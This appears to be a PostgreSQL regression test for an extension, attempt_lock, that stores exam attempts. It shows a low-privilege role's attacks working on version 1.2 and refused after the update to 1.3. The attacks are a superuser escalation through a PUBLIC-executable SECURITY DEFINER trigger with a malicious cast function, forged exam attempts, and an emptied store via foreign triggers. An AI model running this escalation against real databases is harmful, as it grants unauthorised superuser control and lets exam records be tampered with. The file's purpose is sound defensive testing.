-- The attacks of a login role with default privileges, each shown working on
-- release 1.2 inside a rolled-back transaction, then refused once ALTER EXTENSION
-- attempt_lock UPDATE has run, the store kept. What the library fixed (the settings, the
-- source's relation kind, the aggregate's memory) holds for 1.2 too: the library is
-- shared by every installed version, so there the 1.2 side shows the refusal.
\set VERBOSITY default
\set SHOW_CONTEXT never
CREATE TABLE exam_results (id uuid PRIMARY KEY, user_id text, session_id text,
    created_at timestamptz, updated_at timestamptz, result_json jsonb);
INSERT INTO exam_results VALUES
  ('00000000-0000-0000-0000-00000000000a', 'alice', 's1', '2026-03-01 10:00+00', NULL,
   '{"questions": [{"question_id": 1, "is_correct": false}, {"question_id": 2, "is_correct": true}]}'),
  ('00000000-0000-0000-0000-00000000000b', 'bob', 's2', '2026-03-02 10:00+00', NULL,
   '{"questions": [{"question_id": 1, "is_correct": true}]}');
CREATE EXTENSION attempt_lock VERSION '1.2';
SET client_min_messages = error;  -- the backfill's progress NOTICEs carry timings
SELECT attempt_store_enable();
RESET client_min_messages;
CREATE ROLE attack_mallory;
CREATE SCHEMA mallory_s AUTHORIZATION attack_mallory;
GRANT SELECT ON exam_results TO attack_mallory;
-- what alice's rows look like to every reader
CREATE FUNCTION pg_temp.alice() RETURNS TABLE (attempts bigint, correct bigint, first_attempt_at_item_1 int)
LANGUAGE sql AS $$
  SELECT count(*), count(*) FILTER (WHERE correct),
         min(attempt_no) FILTER (WHERE item_id = 1 AND session_id = 's1')
    FROM attempt WHERE student_id = attempt_student_uuid('alice') $$;
SELECT * FROM pg_temp.alice();

-- 1. (critical, 1.2) Any role becomes superuser: the store's SECURITY DEFINER trigger
-- function, executable by PUBLIC, attached to her own temp table whose user_id has her
-- own type with her own cast to text, runs her function as the extension's owner.
BEGIN;
SET LOCAL ROLE attack_mallory;
CREATE TYPE pg_temp.evil AS ENUM ('x');
CREATE FUNCTION pg_temp.evil_text(pg_temp.evil) RETURNS text LANGUAGE plpgsql AS
$$BEGIN EXECUTE 'ALTER ROLE attack_mallory SUPERUSER'; RETURN 'x'; END$$;
CREATE CAST (pg_temp.evil AS text) WITH FUNCTION pg_temp.evil_text(pg_temp.evil);
CREATE TEMP TABLE t (id uuid, user_id pg_temp.evil, session_id text, created_at timestamptz,
                     updated_at timestamptz, result_json jsonb);
CREATE TRIGGER t_ins AFTER INSERT ON pg_temp.t REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_sync();
INSERT INTO pg_temp.t VALUES (gen_random_uuid(), 'x', 's', now(), now(), '{"questions":[]}');
RESET ROLE;
SELECT rolsuper AS mallory_is_superuser FROM pg_roles WHERE rolname = 'attack_mallory';
ROLLBACK;

-- 2. (high, 1.2) Forged attempts and an emptied store, from a table of her own.
BEGIN;
SET LOCAL ROLE attack_mallory;
CREATE TABLE mallory_s.fake (LIKE public.exam_results);
CREATE TRIGGER fake_ins AFTER INSERT ON mallory_s.fake REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_sync();
CREATE TRIGGER fake_truncate AFTER TRUNCATE ON mallory_s.fake
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_truncate();
INSERT INTO mallory_s.fake
SELECT gen_random_uuid(), 'alice', 'forged', '2026-02-01 10:00+00', NULL,
       '{"questions": [{"question_id": 1, "is_correct": true}]}'
  FROM generate_series(1, 50);
RESET ROLE;
SELECT * FROM pg_temp.alice();
SET LOCAL ROLE attack_mallory;
TRUNCATE mallory_s.fake;
RESET ROLE;
SELECT count(*) AS attempt_rows_for_everyone FROM attempt;
ROLLBACK;

-- Planted before the update: her triggers survive it, and on 1.2 survive the switch too,
-- with health saying nothing.
SET ROLE attack_mallory;
CREATE TABLE mallory_s.fake (LIKE public.exam_results);
CREATE TRIGGER fake_ins AFTER INSERT ON mallory_s.fake REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_sync();
CREATE TRIGGER fake_truncate AFTER TRUNCATE ON mallory_s.fake
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_truncate();
RESET ROLE;
SET client_min_messages = error;
SELECT attempt_store_disable(), attempt_store_enable() > 0 AS enabled;
RESET client_min_messages;
SELECT "check", status FROM attempt_health() WHERE "check" IN ('members', 'store');

-- The update: a WARNING names each trigger that calls the extension and is not the store's.
ALTER EXTENSION attempt_lock UPDATE TO '1.3';
SELECT extversion FROM pg_extension WHERE extname = 'attempt_lock';
SELECT * FROM pg_temp.alice();
SELECT "check", status, CASE WHEN "check" <> 'members' THEN observed END AS observed
  FROM attempt_health() WHERE "check" IN ('members', 'store', 'source_contract');

-- 1, after: the trigger functions are not executable by PUBLIC, and a trigger fired
-- anywhere but as the store's own refuses before reading a row.
BEGIN;
SET LOCAL ROLE attack_mallory;
CREATE TYPE pg_temp.evil AS ENUM ('x');
CREATE TEMP TABLE t (id uuid, user_id pg_temp.evil, session_id text, created_at timestamptz,
                     updated_at timestamptz, result_json jsonb);
CREATE TRIGGER t_ins AFTER INSERT ON pg_temp.t REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION public.attempt_store_sync();
ROLLBACK;
SELECT p.oid::regprocedure AS function, has_function_privilege('attack_mallory', p.oid, 'EXECUTE') AS mallory_may_execute
  FROM pg_proc p WHERE p.proname IN ('attempt_store_sync', 'attempt_store_truncate') ORDER BY 1;
-- 2, after: her planted triggers refuse to run (42501), the store untouched.
SET ROLE attack_mallory;
INSERT INTO mallory_s.fake
SELECT gen_random_uuid(), 'alice', 'forged', '2026-02-01 10:00+00', NULL,
       '{"questions": [{"question_id": 1, "is_correct": true}]}';
\echo SQLSTATE :SQLSTATE
TRUNCATE mallory_s.fake;
\echo SQLSTATE :SQLSTATE
RESET ROLE;
SELECT * FROM pg_temp.alice();
-- A superuser's own mistake is refused the same way: the right name on another table, and
-- a trigger on the source that the switch did not make.
CREATE TABLE other (LIKE exam_results);
CREATE TRIGGER attempt_store_insert AFTER INSERT ON other REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION attempt_store_sync();
INSERT INTO other SELECT * FROM exam_results;
BEGIN;
CREATE TRIGGER extra AFTER INSERT ON exam_results REFERENCING NEW TABLE AS new_rows
  FOR EACH STATEMENT EXECUTE FUNCTION attempt_store_sync();
INSERT INTO exam_results VALUES ('00000000-0000-0000-0000-00000000000c', 'carol', 's3', now(), NULL, '{"questions": []}');
ROLLBACK;
-- The switch's own trigger made to depend on the extension no more is refused as well,
-- though this session's earlier writes found it depending.
INSERT INTO exam_results VALUES ('00000000-0000-0000-0000-00000000000d', 'carol', 's3', now(), NULL, '{"questions": []}');
BEGIN;
ALTER TRIGGER attempt_store_insert ON exam_results NO DEPENDS ON EXTENSION attempt_lock;
INSERT INTO exam_results VALUES ('00000000-0000-0000-0000-00000000000e', 'carol', 's3', now(), NULL, '{"questions": []}');
ROLLBACK;
SELECT attempt_store_sync();
DROP TABLE other;
-- Health names her triggers, and the switch refuses to start while they exist.
SELECT "check", status, detail FROM attempt_health() WHERE "check" = 'store';
SELECT * FROM attempt_store_foreign_triggers();
SET client_min_messages = error;
SELECT attempt_store_disable();
RESET client_min_messages;
SELECT attempt_store_enable();
\echo SQLSTATE :SQLSTATE
DROP TABLE mallory_s.fake;
SET client_min_messages = error;
SELECT attempt_store_enable() > 0 AS enabled;
RESET client_min_messages;
SELECT "check", status FROM attempt_health() WHERE "check" IN ('members', 'store');
SELECT * FROM pg_temp.alice();

-- 3. (medium) The source setting. Superuser-only: a database owner cannot set it for her
-- database (PostgreSQL refuses a placeholder to a non-superuser, and the setting is
-- PGC_SUSET once the library is loaded).
CREATE ROLE attack_dbowner;
SELECT current_database() AS db \gset
ALTER DATABASE :"db" OWNER TO attack_dbowner;
LOAD 'attempt_lock';
SET ROLE attack_dbowner;
ALTER DATABASE :"db" SET attempt_lock.source_table = 'mallory_s.src';
\echo SQLSTATE :SQLSTATE
SET attempt_lock.source_table = 'mallory_s.src';
RESET ROLE;
-- A default set by a superuser is not honoured either (PostgreSQL does not record who
-- ran ALTER DATABASE/ROLE ... SET): refused where the library is loaded, and where it is
-- not (a placeholder then) ignored with a WARNING when it loads, the default used.
ALTER DATABASE :"db" SET attempt_lock.source_table = 'mallory_s.src';
\c
ALTER DATABASE :"db" SET attempt_lock.source_table = 'mallory_s.src';
ALTER ROLE CURRENT_USER IN DATABASE :"db" SET attempt_lock.adopt_existing_view = on;
\c
SHOW attempt_lock.source_table;
SELECT attempt_student_uuid('x') IS NOT NULL AS library_loaded;
SHOW attempt_lock.source_table;
SHOW attempt_lock.adopt_existing_view;
ALTER DATABASE :"db" RESET attempt_lock.source_table;
ALTER ROLE CURRENT_USER IN DATABASE :"db" RESET attempt_lock.adopt_existing_view;
\c
\set VERBOSITY default
\set SHOW_CONTEXT never
-- A view (or materialized view, or foreign table) is never the source, 1.2 included
-- (the check is the library's): its query would run as every reader of attempt.
CREATE VIEW mallory_s.src AS SELECT * FROM public.exam_results;
ALTER VIEW mallory_s.src OWNER TO attack_mallory;
CREATE MATERIALIZED VIEW public.src_mat AS SELECT * FROM public.exam_results;
BEGIN;
SET client_min_messages = error;
DROP EXTENSION attempt_lock CASCADE;
RESET client_min_messages;
SET LOCAL attempt_lock.source_table = 'mallory_s.src';
CREATE EXTENSION attempt_lock VERSION '1.2';
\echo SQLSTATE :SQLSTATE
ROLLBACK;
BEGIN;
SET client_min_messages = error;
DROP EXTENSION attempt_lock CASCADE;
RESET client_min_messages;
SET LOCAL attempt_lock.source_table = 'public.src_mat';
CREATE EXTENSION attempt_lock;
\echo SQLSTATE :SQLSTATE
ROLLBACK;
SELECT attempt_source_attach('mallory_s.src');
\echo SQLSTATE :SQLSTATE
DROP VIEW mallory_s.src;
DROP MATERIALIZED VIEW src_mat;

-- 4. (low) The aggregate's state lives in the aggregate's memory context: HashAggregate
-- accounts it (and spills past work_mem), within twice array_agg's peak on the same
-- GROUP BY.
CREATE FUNCTION pg_temp.peak_kb(query text) RETURNS bigint LANGUAGE plpgsql AS $$
DECLARE plan json;
BEGIN
    EXECUTE 'EXPLAIN (ANALYZE, FORMAT JSON, TIMING OFF) ' || query INTO plan;
    RETURN (plan->0->'Plan'->>'Peak Memory Usage')::bigint;
END $$;
SET work_mem = '256MB';
SET enable_sort = off;
SELECT pg_temp.peak_kb($$SELECT g, attempt_no_counts(jsonb_build_object('a', g)) FROM generate_series(1, 100000) g GROUP BY g$$) AS counts_kb,
       pg_temp.peak_kb($$SELECT g, array_agg(jsonb_build_object('a', g)) FROM generate_series(1, 100000) g GROUP BY g$$) AS array_agg_kb
\gset
SELECT :counts_kb > 1000 AS accounted, :counts_kb <= 2 * :array_agg_kb AS within_twice_array_agg;
RESET work_mem;
RESET enable_sort;

-- 5. The store's staleness: attempt_store_mark_stale() (SECURITY DEFINER, PUBLIC may call
-- it, for the source's event trigger) does nothing while the store's triggers are intact,
-- and she cannot give the source a child (only its owner may), which would send attempt to
-- the computed rows.
SELECT attempt_store_usable() AS store_read_before;
SET ROLE attack_mallory;
SELECT attempt_store_mark_stale('ALTER TABLE') AS marked_stale;
CREATE TABLE mallory_s.child () INHERITS (public.exam_results);
RESET ROLE;
SELECT attempt_store_usable() AS store_read_after, stale_since IS NULL AS never_stale FROM attempt_store_status();

DROP SCHEMA mallory_s CASCADE;
REVOKE ALL ON exam_results FROM attack_mallory;
DROP ROLE attack_mallory;
ALTER DATABASE :"db" OWNER TO CURRENT_USER;
DROP ROLE attack_dbowner;
